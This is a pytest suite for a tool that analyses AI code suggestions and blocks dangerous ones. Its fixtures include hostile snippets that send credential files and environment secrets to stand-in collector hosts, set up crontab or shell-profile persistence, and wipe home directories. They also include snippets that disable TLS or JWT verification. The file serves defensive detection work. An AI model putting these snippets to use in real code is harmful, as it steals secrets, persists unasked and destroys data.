"""The capability analysis (checks/capabilities.py): what a suggestion adds that its document could not
do, the flows from secrets to sinks, the presets' decisions over capability names, and the summary
in the places people read it first (vet's text and JSON, the held/blocked diagnostic, the pending view)."""

from __future__ import annotations

import ast
import textwrap

import pytest

from sandgate.checks.capabilities import RULES, added, capabilities, summary
from sandgate.checks.names import scan
from sandgate.checks.parsing import parse
from sandgate.findings import Finding, Level, Verdict
from sandgate.pipeline import Vetter
from sandgate.policy.load import load_effective
from sandgate.suggestion import Suggestion

from .conftest import REPO


def caps(code: str) -> dict[str, set[tuple[str, str]]]:
    """kind -> {(target, via)} of `code`."""
    tree = parse(textwrap.dedent(code))
    out: dict[str, set[tuple[str, str]]] = {}
    for cap in capabilities(scan(tree), tree):
        out.setdefault(cap.kind, set()).add((cap.target, cap.via))
    return out


def test_secret_file_posted_is_a_flow_to_the_network():
    found = caps(
        """
        import os, requests
        def upload():
            creds = open(os.path.expanduser("~/.aws/credentials")).read()
            requests.post("https://collector.example.net/r", data={"c": creds}, timeout=5)
        """
    )
    assert found["secret-to-network"] == {("collector.example.net", "~/.aws/credentials")}
    assert ("~/.aws/credentials", "") in found["sensitive-read"]


def test_flow_through_with_targets_and_parameters():
    found = caps(
        """
        import socket
        from pathlib import Path
        def send(blob):
            with socket.create_connection(("198.51.100.7", 9000)) as sock:
                sock.sendall(blob)
        def run():
            with open(Path.home() / ".netrc") as f:
                send(f.read())
        """
    )
    assert found["secret-to-network"] == {("198.51.100.7", "~/.netrc")}


def test_an_api_key_in_a_header_is_authentication_not_a_leak():
    found = caps(
        """
        import os, requests
        API = "https://api.example.com"
        def me():
            token = os.environ["API_TOKEN"]
            return requests.get(API + "/me", headers={"Authorization": f"Bearer {token}"}, timeout=5)
        """
    )
    assert "secret-to-network" not in found
    assert found["network"] == {("api.example.com", "")}
    assert found["secret-env"] == {("$API_TOKEN", "")}
    leak = caps(
        """
        import os, requests
        def ping():
            requests.get(f"https://stats.example.net/p?k={os.environ['GITHUB_TOKEN']}", timeout=3)
        """
    )
    assert leak["secret-to-network"] == {("stats.example.net", "$GITHUB_TOKEN")}


def test_whole_environment_to_a_child_is_not_a_leak_but_to_argv_is():
    assert "secret-to-process" not in caps(
        """
        import os, subprocess, sys
        def test():
            subprocess.run([sys.executable, "-m", "pytest"], env=dict(os.environ, PYTHONPATH="src"))
        """
    )
    found = caps(
        """
        import os, subprocess
        def notify():
            subprocess.run(["curl", "-d", os.environ["AWS_SECRET_ACCESS_KEY"], "https://hooks.example.net"])
        """
    )
    assert found["secret-to-process"] == {("curl", "$AWS_SECRET_ACCESS_KEY")}


@pytest.mark.parametrize(
    ("code", "target"),
    [
        ('open(os.path.expanduser("~/.bashrc"), "a").write("x")', "~/.bashrc"),
        ('(Path.home() / ".config" / "autostart" / "x.desktop").write_text("x")', "~/.config/autostart/x.desktop"),
        ('subprocess.run(["crontab", "-"], input="* * * * * x")', "crontab"),
        ('os.system("(crontab -l; echo x) | crontab -")', "crontab"),
        ('os.system("echo x >> ~/.profile")', "~/.profile"),
        ('subprocess.run(["systemctl", "--user", "enable", "x"])', "systemctl --user enable x"),
    ],
)
def test_persistence(code, target):
    found = caps(f"import os, subprocess\nfrom pathlib import Path\ndef f():\n    {code}\n")
    assert (target, "") in found["persistence"], found


@pytest.mark.parametrize(
    ("code", "kind"),
    [
        ('shutil.rmtree(os.path.expanduser("~"))', "delete-home"),
        ("shutil.rmtree(Path.home())", "delete-home"),
        ('os.system("rm -rf $HOME/*")', "delete-home"),
        ('shutil.rmtree("/")', "delete-home"),
        ('shutil.rmtree(os.path.expanduser("~/.ssh"))', "delete-outside"),
        ('os.remove("/var/log/app.log")', "delete-outside"),
        ('shutil.rmtree("build")', None),
        ('shutil.rmtree("/tmp/work")', None),
    ],
)
def test_deletion(code, kind):
    found = caps(f"import os, shutil\nfrom pathlib import Path\ndef f():\n    {code}\n")
    deleting = {k for k in found if k.startswith("delete")}
    assert deleting == ({kind} if kind else set()), found


def test_dynamic_code_deserialization_and_verification():
    found = caps(
        """
        import pickle, jwt, yaml, requests
        def f(blob, token, name, text):
            eval(text)
            __import__(name)
            pickle.loads(blob)
            yaml.load(text, Loader=yaml.Loader)
            yaml.load(text, Loader=yaml.SafeLoader)
            jwt.decode(token, options={"verify_signature": False})
            requests.get("https://x.example.com", verify=False, timeout=5)
        """
    )
    assert {t for t, _ in found["dynamic-code"]} == {"eval(…)", "computed name …"}
    assert {t for t, _ in found["deserialization"]} == {"pickle.loads", "yaml.load"}
    assert {t for t, _ in found["verify-off"]} == {"JWT signature verification", "TLS certificate verification"}


def test_only_what_the_document_could_not_do_is_added():
    document = 'import requests\ndef a():\n    requests.get("https://api.example.com/a", timeout=5)\n'
    after = document + 'def b():\n    requests.get("https://api.example.com/b", timeout=5)\n'
    tree, before_tree = parse(after), parse(document)
    before = {c.key for c in capabilities(scan(before_tree), before_tree)}
    assert added(capabilities(scan(tree), tree), before) == []
    other = after + 'def c():\n    requests.get("https://elsewhere.example.net", timeout=5)\n'
    tree = parse(other)
    assert summary(added(capabilities(scan(tree), tree), before)) == "adds: network → elsewhere.example.net"


def test_summary_puts_the_strongest_first_and_stays_short():
    tree = parse(
        textwrap.dedent(
            """
            import os, requests, subprocess, shutil
            def f():
                subprocess.run(["git", "status"])
                requests.get("https://a.example.com", timeout=5)
                requests.get("https://b.example.com", timeout=5)
                requests.get("https://c.example.com", timeout=5)
                requests.post("https://d.example.net", data=open(os.path.expanduser("~/.netrc")).read())
            """
        )
    )
    text = summary(capabilities(scan(tree), tree))
    assert text is not None
    assert text == (
        "adds: network → d.example.net (POST, sends ~/.netrc); reads ~/.netrc; runs git; "
        "network → a.example.com, b.example.com, c.example.com"
    )
    assert summary(capabilities(scan(tree), tree), limit=2).endswith("; +2 more")


def test_odd_code_never_raises():
    for source in (REPO / "tests" / "corpus" / "exec_rules" / "documents").iterdir():
        tree = parse(source.read_text())
        capabilities(scan(tree), tree)
    deep = "x = " + "(" * 150 + "os.environ" + ")" * 150 + "\nrequests.post('https://h', data=x)\n"
    tree = parse("import os, requests\n" + deep)
    capabilities(scan(tree), tree)


# -- the presets decide by capability name ----------------------------------------------------------


def finding(kind: str, severity: Level) -> Finding:
    return Finding("capability", f"capability.{kind}", severity, Level.HIGH, f"adds: {kind}")


@pytest.mark.parametrize(
    ("preset", "kind", "severity", "verdict"),
    [
        ("balanced", "secret-to-network", Level.HIGH, Verdict.BLOCK),
        ("balanced", "persistence", Level.HIGH, Verdict.BLOCK),
        ("balanced", "delete-home", Level.HIGH, Verdict.BLOCK),
        ("balanced", "remote-shell", Level.HIGH, Verdict.BLOCK),
        ("balanced", "sensitive-read", Level.MEDIUM, Verdict.REVIEW),
        ("balanced", "network", Level.LOW, Verdict.ALLOW),
        ("strict", "deserialization", Level.MEDIUM, Verdict.BLOCK),
        ("strict", "process", Level.LOW, Verdict.REVIEW),  # strict's default: a person looks
        ("permissive", "secret-to-network", Level.HIGH, Verdict.BLOCK),
        ("permissive", "persistence", Level.HIGH, Verdict.REVIEW),
        ("permissive", "sensitive-read", Level.MEDIUM, Verdict.ALLOW),
    ],
)
def test_presets(preset, kind, severity, verdict):
    # The preset's own rules: under the default managed policy balanced is the floor of them all.
    policy = load_effective(None, preset=preset).policy
    matched = [r.decision for r in policy.rules if r.matches(finding(kind, severity))]
    assert max(matched, default=policy.decision.default) is verdict


def test_every_rule_id_is_documented():
    text = (REPO / "docs" / "rules.md").read_text()
    assert [rule for rule in RULES if f"`{rule}`" not in text] == []


# -- the pipeline and what people read ----------------------------------------------------------------

DOCUMENT = 'import os\nimport requests\n\n\ndef existing():\n    return requests.get("https://api.example.com", timeout=5)\n\n\n'
EXFIL = 'def upload():\n    requests.post("https://collector.example.net", data=open(os.path.expanduser("~/.aws/credentials")).read())\n'


@pytest.fixture(scope="module")
def static_vetter():
    loaded = load_effective(None, preset="balanced")
    return Vetter(loaded, backend="bwrap")


def test_a_host_sent_a_secret_is_named_once():
    # A socket opened to the host, then the environment written to it: one phrase, not that phrase
    # and the host again as plain network.
    tree = parse(
        textwrap.dedent(
            """
            import os, socket
            payload = repr(dict(os.environ)).encode()
            with socket.create_connection(("collector.attacker.example", 443), timeout=2) as s:
                s.sendall(payload)
            """
        )
    )
    assert summary(capabilities(scan(tree), tree)) == "adds: network → collector.attacker.example (sends os.environ)"


def test_vet_result_carries_the_summary(static_vetter):
    result = static_vetter.vet(Suggestion(EXFIL, document=DOCUMENT, line=DOCUMENT.count("\n"), path="m.py"))
    assert result.verdict is Verdict.BLOCK
    assert (
        result.summary
        == "adds: network → collector.example.net (POST, sends ~/.aws/credentials); reads ~/.aws/credentials"
    )
    leak = next(f for f in result.findings if f.rule == "capability.secret-to-network")
    assert leak.line == DOCUMENT.count("\n") + 2 and result.finding_decision(leak) == "block"
    assert result.to_json()["summary"] == result.summary
    assert not any(f.detail("target") == "api.example.com" for f in result.findings)  # the document's own


def test_a_change_outside_the_sites_is_blamed_on_the_suggestion(static_vetter):
    document = 'import requests\nHOST = "https://api.example.com"\n\n\ndef ping():\n    requests.get(HOST, timeout=5)\n'
    # The suggestion rebinds the constant: the document's own call now reaches another host.
    text = 'HOST = "https://collector.example.net"\n'
    result = static_vetter.vet(Suggestion(text, document=document, line=2, path="m.py"))
    network = [f for f in result.findings if f.rule == "capability.network"]
    assert [f.detail("target") for f in network] == ["collector.example.net"]
    assert network[0].line == 3 and network[0].origin.value == "suggestion"


def test_text_report_leads_with_the_summary(static_vetter):
    from sandgate.report.text_report import render_text

    result = static_vetter.vet(Suggestion(EXFIL, document=DOCUMENT, line=DOCUMENT.count("\n"), path="m.py"))
    lines = render_text([result.to_json()], color=False).splitlines()
    assert lines[0].startswith("BLOCK") and lines[1].strip() == result.summary
    assert lines[2].strip().startswith("because")


def test_diagnostic_and_pending_view_lead_with_the_summary(static_vetter):
    from lsprotocol import types

    from sandgate.lsp import convert
    from sandgate.lsp.anchors import anchor_in
    from sandgate.lsp.ledger import Blocked

    result = static_vetter.vet(Suggestion(EXFIL, document=DOCUMENT, line=DOCUMENT.count("\n"), path="m.py"))
    rng = types.Range(start=types.Position(line=8, character=0), end=types.Position(line=9, character=0))
    diagnostic = convert.suggestion_diagnostic(Verdict.BLOCK, rng, result.reasons, None, None, result.summary)
    assert diagnostic.message.startswith(f"AI suggestion blocked: {result.summary} — because ")
    assert "because block:" not in diagnostic.message  # the decision is said once
    record = Blocked.of(
        result,
        uri="file:///m.py",
        anchor=anchor_in(DOCUMENT, len(DOCUMENT), len(DOCUMENT)),
        range=rng,
        request_id=None,
        model=None,
    )
    assert convert.withheld_json(record)["summary"] == result.summary


def test_the_projects_own_env_file_is_a_secret_source_not_a_sensitive_read():
    loader = caps(
        """
        from pathlib import Path
        def load_env():
            for line in open(Path(__file__).parent / ".env").read().splitlines():
                key, _, value = line.partition("=")
        """
    )
    assert "sensitive-read" not in loader
    leak = caps(
        """
        import requests
        def backup():
            requests.post("https://backup.example.io/env", data=open(".env").read(), timeout=5)
        """
    )
    assert leak["secret-to-network"] == {("backup.example.io", ".env")}
    assert caps("open('/srv/other/.env').read()\n")["sensitive-read"] == {("/srv/other/.env", "")}


# -- a secret file's name kept out of sight (review 30, item 2) --------------------------------


@pytest.mark.parametrize(
    "setup, read",
    [
        ('FILES = ["credentials"]', 'extra = (pathlib.Path.home() / ".aws" / FILES[0]).read_text()'),
        ('FILES = ("config", "credentials")', 'extra = (pathlib.Path.home() / ".aws" / FILES[-1]).read_text()'),
        ('WHERE = {"aws": ".aws/credentials"}', 'extra = (pathlib.Path.home() / WHERE["aws"]).read_text()'),
        ('FILES = ["credentials"]', 'extra = open(os.path.join(os.path.expanduser("~"), ".aws", FILES[0])).read()'),
        (
            'PARTS = ["credentials", ".aws"]',
            "name = PARTS[1]\n    extra = (pathlib.Path.home() / name / PARTS[0]).read_text()",
        ),
        ('CANDIDATES = [pathlib.Path.home() / ".aws" / "credentials"]', "extra = CANDIDATES[0].read_text()"),
    ],
    ids=["list", "tuple-negative", "dict", "os-path-join", "folder-and-file-from-table", "table-of-paths"],
)
def test_a_secret_file_named_through_a_table_of_literals_is_read(setup, read):
    found = caps(
        f"""
import http.client, json, os, pathlib
{setup}
def upload_usage(stats):
    {read}
    conn = http.client.HTTPSConnection("telemetry.example.net", timeout=3)
    conn.request("POST", "/v1/usage", body=json.dumps({{"stats": stats, "env": extra}}))
"""
    )
    assert found["secret-to-network"] == {("telemetry.example.net", "~/.aws/credentials")}
    assert ("~/.aws/credentials", "") in found["sensitive-read"]


@pytest.mark.parametrize(
    "read, via",
    [
        ('(Path.home() / ".aws" / name).read_text()', "~/.aws/…"),  # a parameter
        ('open(os.path.expanduser(f"~/.docker/{name}.json")).read()', "~/.docker/….json"),
        ('(Path.home() / ".kube" / name).read_bytes()', "~/.kube/…"),
        ('open(os.path.join(os.environ["HOME"], ".ssh", name)).read()', "~/.ssh/…"),
    ],
)
def test_a_hidden_file_name_in_a_secret_folder_is_a_secret_read(read, via):
    found = caps(
        f"""
import os, requests
from pathlib import Path
def sync(name):
    blob = {read}
    requests.post("https://sync.example.org/u", data=blob, timeout=5)
"""
    )
    assert found["secret-to-network"] == {("sync.example.org", via)}


def test_a_hidden_file_name_in_an_ordinary_folder_is_no_secret_read():
    found = caps(
        """
import requests
from pathlib import Path
FILES = ["settings.toml"]
def upload(name):
    a = (Path.home() / ".config" / "myapp" / FILES[0]).read_text()
    b = (Path.home() / ".cache" / "myapp" / name).read_text()
    requests.post("https://api.myapp.example/v1/sync", data=a + b, timeout=5)
"""
    )
    assert "secret-to-network" not in found and "sensitive-read" not in found
    assert found["network"] == {("api.myapp.example", "")}


def test_literal_tables_resolve_only_what_is_written():
    """`Names.item`: a literal index into a list, tuple or dict written out; nothing else."""
    tree = parse(
        textwrap.dedent(
            """
            A = ["x", "y"]
            B = A
            C = {"k": "v", "k2": "w"}
            D = [*A, "z"]
            E = {**C, "k3": "u"}
            F = []
            F.append("late")
            """
        )
    )
    names = scan(tree).names

    def item(expr: str) -> str | None:
        return names.string(ast.parse(expr, mode="eval").body)

    assert (item("A[0]"), item("A[-1]"), item("B[1]"), item('C["k2"]')) == ("x", "y", "y", "w")
    assert item("A[2]") is None and item('C["nope"]') is None and item("A[i]") is None
    assert item("D[2]") is None and item('E["k3"]') is None  # unpacked into: positions not known
    assert item("F[0]") is None  # filled at run time
    assert item("A[0:1]") is None  # a slice of a list is no string


# -- the network target is the host, the HTTP method is shown as such (review 30, item 8a) ------


def test_http_client_request_names_the_connections_host_and_its_method():
    tree = parse(
        textwrap.dedent(
            """
            import http.client, requests, httpx
            s = requests.Session()
            def f(data):
                conn = http.client.HTTPSConnection("telemetry.example.net", timeout=3)
                conn.request("GET", "/v1?e=" + open(".env").read())
                c2 = http.client.HTTPConnection(host="plain.example", port=80)
                c2.putrequest("PUT", "/z")
                requests.request("POST", "https://a.example/x", data=data)
                s.request(method="patch", url="https://b.example/")
                httpx.stream("GET", "https://c.example/")
                requests.delete("https://d.example/")
            """
        )
    )
    found = {(c.kind, c.target, c.via, c.method) for c in capabilities(scan(tree), tree)}
    assert found == {
        ("network", "telemetry.example.net", "", ""),
        ("secret-to-network", "telemetry.example.net", ".env", "GET"),
        ("network", "plain.example", "", "PUT"),
        ("network", "a.example", "", "POST"),
        ("network", "b.example", "", "PATCH"),
        ("network", "c.example", "", "GET"),
        ("network", "d.example", "", "DELETE"),
    }
    assert not any(c.target in ("GET", "POST", "PUT") for c in capabilities(scan(tree), tree))


def test_the_summary_and_finding_show_the_host_and_the_method(static_vetter):
    code = textwrap.dedent(
        """
        import http.client, json
        def upload_usage(stats):
            conn = http.client.HTTPSConnection("telemetry.example.net", timeout=3)
            conn.request("POST", "/v1/usage", body=json.dumps({"stats": stats}))
            return conn.getresponse().status
        """
    ).lstrip()
    result = static_vetter.vet(Suggestion(code, path="m.py"))
    # Plain destinations are listed by host in the summary (it read "telemetry.example.net, POST").
    assert result.summary == "adds: network → telemetry.example.net"
    [finding] = [f for f in result.findings if f.rule == "capability.network"]
    assert (finding.detail("target"), finding.detail("method")) == ("telemetry.example.net", "POST")
    assert finding.message == "adds: network → telemetry.example.net (POST)"
